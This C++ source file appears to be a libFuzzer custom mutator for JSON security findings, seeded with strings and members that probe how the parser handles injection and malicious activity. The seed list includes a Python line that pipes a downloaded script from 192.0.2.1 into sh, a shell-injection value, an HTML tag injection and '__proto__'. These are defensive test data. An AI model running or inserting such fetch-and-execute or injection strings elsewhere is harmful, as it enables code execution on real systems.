#include <algorithm>
#include <cstdint>
#include <cstring>
#include <random>
#include <string>
#include <string_view>
#include <vector>

// Changes findings by their parts: strings, values, members and whole findings. Without it most changes only
// break the JSON, and what relates, plans and writes findings is hardly reached.

extern "C" std::size_t LLVMFuzzerMutate(std::uint8_t* data, std::size_t size, std::size_t max_size);

namespace {

using Random = std::minstd_rand;

constexpr std::string_view kStrings[] = {
    "",
    "=1+1",
    "\\u0000=1",
    "a\\nb",
    "\\u202e",
    "\\ud800",
    "```\\n# x",
    "[a](http://example.invalid/)",
    "<img src=x>",
    "' ; echo x '",
    "-x",
    "__proto__",
    "2026-01-01T12:00:00Z",
    "192.0.2.1",
    "/tmp/a.py",
    "//run.googleapis.com/projects/p/locations/l/services/s",
    "//container.googleapis.com/projects/p/locations/l/clusters/c",
    "organizations/1/sources/2/locations/global/findings/f",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "18446744073709551616",
    "import os\\nos.system('curl http://192.0.2.1/a.py | sh')\\n",
};

constexpr std::string_view kMembers[] = {
    R"-("processes":[{"pid":"7","parentPid":"1","binary":{"path":"/bin/sh"},"args":["sh","-c","/tmp/a.py"]}])-",
    R"-("script":{"path":"/tmp/a.py","contents":"print(1)","sha256":"00","size":"9","hashedSize":"8"})-",
    R"-("files":[{"path":"/tmp/a.py","sha256":"00"}])-",
    R"-("connections":[{"destinationIp":"192.0.2.1","destinationPort":4444,"protocol":"TCP"}])-",
    R"-("indicator":{"ipAddresses":["192.0.2.1"],"domains":["example.invalid"],"uris":["http://example.invalid/a"]})-",
    R"-("kubernetes":{"pods":[{"ns":"n","name":"p","containers":[{"name":"c","uri":"u","imageId":"i"}]}]})-",
    R"-("mitreAttack":{"primaryTactic":"EXECUTION","primaryTechniques":["PYTHON"],"version":"9"})-",
    R"-("resource":{"name":"//run.googleapis.com/projects/p/locations/l/jobs/j","type":"google.run.Job"})-",
    R"-("envVariables":[{"name":"AWS_SECRET_ACCESS_KEY","val":"x"}])-",
    R"-("marks":{"marks":{"a":"b"}})-",
    R"-("contentsTruncated":true)-",
    R"-("severity":"CRITICAL")-",
};

std::size_t below(Random& random, std::size_t bound) { return bound == 0 ? 0 : random() % bound; }

template <std::size_t N>
std::string_view one_of(Random& random, const std::string_view (&all)[N]) {
  return all[below(random, N)];
}

struct Range {
  std::size_t start;
  std::size_t end;
};

/// Strings with their quotes, and balanced parts of the text.
struct Parts {
  std::vector<Range> strings;
  std::vector<Range> values;
  std::vector<std::size_t> inside;  ///< behind the `{` of objects
};

Parts parts_of(std::string_view text) {
  Parts parts;
  std::vector<std::size_t> open;
  for (std::size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (c == '"') {
      const std::size_t start = i++;
      while (i < text.size() && text[i] != '"') i += text[i] == '\\' ? 2 : 1;
      parts.strings.push_back({start, std::min(i + 1, text.size())});
    } else if (c == '{' || c == '[') {
      open.push_back(i);
      if (c == '{') parts.inside.push_back(i + 1);
    } else if ((c == '}' || c == ']') && !open.empty()) {
      parts.values.push_back({open.back(), i + 1});
      open.pop_back();
    }
  }
  return parts;
}

std::string replaced(std::string_view text, Range range, std::string_view by) {
  return std::string(text.substr(0, range.start)).append(by).append(text.substr(range.end));
}

std::string quoted(std::string_view text) { return '"' + std::string(text) + '"'; }

std::string changed(std::string_view text, Random& random) {
  const Parts parts = parts_of(text);
  if (parts.strings.empty() || parts.values.empty() || parts.inside.empty()) {
    return '{' + quoted("finding") + ":{" + std::string(one_of(random, kMembers)) + "}}";
  }
  const Range string = parts.strings[below(random, parts.strings.size())];
  const Range other = parts.strings[below(random, parts.strings.size())];
  const Range value = parts.values[below(random, parts.values.size())];
  const auto of = [&](Range range) { return text.substr(range.start, range.end - range.start); };
  switch (below(random, 8)) {
    case 0:
      return replaced(text, string, quoted(one_of(random, kStrings)));
    case 1:
      return replaced(text, string, of(other));
    case 2: {
      const std::size_t at = parts.inside[below(random, parts.inside.size())];
      return replaced(text, {at, at}, std::string(one_of(random, kMembers)) + ',');
    }
    case 3:
      return replaced(text, value, of(parts.values[below(random, parts.values.size())]));
    case 4:
      return std::string(text) + '\n' + std::string(text);
    case 5:
      return '[' + std::string(text) + ',' + std::string(of(value)) + ']';
    case 6:
      return replaced(text, {value.end, value.end}, ',' + std::string(of(value)));
    default:
      return std::string(text.substr(0, below(random, text.size())));
  }
}

}  // namespace

extern "C" std::size_t LLVMFuzzerCustomMutator(std::uint8_t* data, std::size_t size, std::size_t max_size,
                                               unsigned int seed) {
  Random random(seed);
  if (below(random, 2) == 0) return LLVMFuzzerMutate(data, size, max_size);
  const std::string out = changed({reinterpret_cast<const char*>(data), size}, random);
  const std::size_t kept = std::min(out.size(), max_size);
  std::memcpy(data, out.data(), kept);
  return kept;
}
